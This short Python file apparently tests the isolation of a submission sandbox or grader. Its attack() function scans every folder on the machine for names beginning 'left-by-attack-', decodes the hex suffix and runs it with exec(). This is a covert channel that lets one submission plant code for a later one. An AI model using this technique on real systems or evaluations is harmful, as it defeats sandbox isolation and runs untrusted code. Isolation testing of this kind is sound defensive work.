"""Looks for what an earlier submission left in the names of folders.
Where the machine has many folders, the time is over first.
Ends as: fail, error, crash, timeout
"""

import os


def attack(X, wrong):
    for _, folders, _ in os.walk("/"):
        for name in folders:
            if name.startswith("left-by-attack-"):
                left = {}
                exec(bytes.fromhex(name.rpartition("-")[2]).decode(), left)
                return left["gift"](X)
    return wrong
